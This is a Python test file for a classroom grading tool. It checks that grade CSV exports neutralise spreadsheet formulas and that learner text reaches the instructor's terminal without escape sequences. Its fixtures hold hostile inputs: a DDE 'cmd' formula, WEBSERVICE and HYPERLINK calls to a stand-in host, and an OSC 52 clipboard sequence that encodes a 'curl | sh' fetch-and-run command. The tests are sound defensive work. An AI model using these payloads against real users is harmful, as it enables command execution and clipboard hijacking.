"""What the class run writes for an instructor's tools is inert there: grades.csv and
grades_kernels.csv quoted (a name with a comma keeps its row) with no field a spreadsheet
runs as a formula, through ``nbgrader export`` and the class run's own export alike; and
no learner's text reaches the instructor's terminal as an escape sequence."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from support.classroom import copy_course

from tilelab.classroom import course, kernel_csv, steps
from tilelab.classroom.escape import FORMULA_PREFIXES, terminal_text
from tilelab.classroom.progress import Progress
from tilelab.classroom.summary import start
from tilelab.classroom.summary import table as summary_table
from tilelab.grading.verdict import Verdict

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")  # in nbgrader

REPO = Path(__file__).resolve().parents[1]
#: (student id, last name, first name, email): commas, quotes, line breaks, formulas
STUDENTS = [
    ("abbott", "Abbott, Jr.", "Bud", "bud@example.edu"),
    ("quote", 'O"Neil, "Q"', "Ann\nMarie", "ann@example.edu"),
    ("formula", "=HYPERLINK(\"http://x.invalid\",\"click\")", "+1+2", "@SUM(A1:A9)"),
    ("minus", "-2+3", "\tTab", "\rcr@example.edu"),
    ("zed", "Zed", "Zoe", "zoe@example.edu"),  # the last row: every row before it survives
]
ASSIGNMENTS = ("01-naive", "02-tiled")


def enrolled_course(root: Path) -> None:
    copy_course(root)
    course.gradebook_head_in_process()
    with Gradebook(f"sqlite:///{root / 'autograder' / 'gradebook.db'}", "tilelab") as gb:
        for a in ASSIGNMENTS:
            gb.update_or_create_assignment(a)
        for sid, last, first, email in STUDENTS:
            gb.update_or_create_student(sid, last_name=last, first_name=first, email=email)


def inert(value: str) -> bool:
    return not value.startswith(FORMULA_PREFIXES)


def check_grades_csv(path: Path) -> None:
    with open(path, newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f))
    assert len(rows) == len(STUDENTS) * len(ASSIGNMENTS)
    assert all(len(r) == len(header) for r in rows)  # no field spilled into the next
    table = [dict(zip(header, r, strict=True)) for r in rows]
    got = {(r["student_id"], r["assignment"]): r for r in table}
    for sid, last, first, email in STUDENTS:
        for a in ASSIGNMENTS:
            row = got[(sid, a)]
            assert all(inert(v) for v in row.values()), row
            assert row["last_name"].removeprefix("'") == last
            assert row["first_name"].removeprefix("'") == first
            assert row["email"].removeprefix("'") == email
            assert float(row["score"]) == 0.0


def test_nbgrader_export_keeps_every_row_of_names_with_commas_and_formulas(tmp_path):
    """``nbgrader export`` as an instructor runs it, in the course's autograder/ folder:
    the course's config makes its plugin quote and neutralise."""
    root = tmp_path / "course"
    enrolled_course(root)
    out = subprocess.run([sys.executable, "-m", "nbgrader", "export"], cwd=root / "autograder",
                         capture_output=True, text=True, timeout=120,
                         env={**os.environ, "PYTHONPATH": str(REPO)})
    assert out.returncode == 0, out.stderr[-2000:]
    check_grades_csv(root / "autograder" / "grades.csv")


def test_the_class_runs_export_keeps_every_row_of_names_with_commas_and_formulas(tmp_path):
    root = tmp_path / "course"
    enrolled_course(root)
    api = course.open_api(root)
    dest = course.export_csv(api.coursedir, root / "autograder" / course.CSV_FILE)
    check_grades_csv(dest)
    with open(dest, newline="", encoding="utf-8") as f:
        assert "timestamp_from" in next(csv.reader(f))


def test_the_kernel_csv_writes_learner_text_as_text(tmp_path):
    """A verdict's reason quotes the learner's code (a compiler error line): in the
    per-kernel CSV no field starts a formula and a comma or quote stays in its field."""
    root = tmp_path / "course"
    copy_course(root)
    api = course.open_api(root)
    student = "=cmd|' -C calc'!A0"
    v = Verdict("naive", "emu", error='-1+1, "quoted", =WEBSERVICE("http://x.invalid")')
    v.messages.append('=WEBSERVICE("http://x.invalid"), and more')
    folder = Path(api.coursedir.format_path(api.coursedir.feedback_directory, student,
                                            "01-naive"))
    steps.write_verdicts(folder, student, "01-naive", [v], {"naive": {"correct": 0.0}}, False)
    dest = kernel_csv.write(api.coursedir, tmp_path / kernel_csv.FILE)
    with open(dest, newline="", encoding="utf-8") as f:
        header, *rows = list(csv.reader(f))
    assert len(rows) == 1 and len(rows[0]) == len(header) == len(kernel_csv.COLUMNS)
    row = dict(zip(header, rows[0], strict=True))
    assert all(inert(value) for value in row.values()), row
    assert row["student"] == "'" + student
    assert float(row["points_correct"]) == 0.0


OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8veC5pbnZhbGlkL3wgc2g=\x07"  # writes the clipboard
TITLE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202eevil"  # retitle, clear, C1 CSI, bidi override


def test_the_class_summary_prints_no_control_sequence():
    summary = start("emu", False, {}, "this process")
    summary["failures"] = [
        {"student": f"eve{OSC52}", "assignment": "01-naive", "step": "files",
         "error": f"the submission holds evil{TITLE}.txt (a symbolic link); nothing of it "
                  "was read"},
    ]
    summary["submissions"] = [{"student": f"eve{OSC52}", "score": 0.0, "max_score": 7.0}]
    text = summary_table(summary, width=400)
    assert not [ch for ch in text if ch != "\n" and (ord(ch) < 0x20 or 0x7f <= ord(ch) < 0xa0)]
    assert "\u202e" not in text
    assert "eve\\x1b]52;c;" in text and "evil\\x1b]0;owned\\x07" in text


def test_progress_lines_print_no_control_sequence():
    out = io.StringIO()
    bar = Progress(1, stream=out)
    bar.step(f"01-naive eve{OSC52}", 1.0)
    assert "\x1b" not in out.getvalue() and "\x07" not in out.getvalue()
    assert "eve\\x1b]52" in out.getvalue()


def test_terminal_text_keeps_honest_names_and_json_keeps_learner_text_whole():
    assert terminal_text("Zoë Ångström 王 👩‍💻") == "Zoë Ångström 王 👩‍💻"
    assert json.loads(json.dumps({"s": OSC52}))["s"] == OSC52  # --json: escaped by JSON
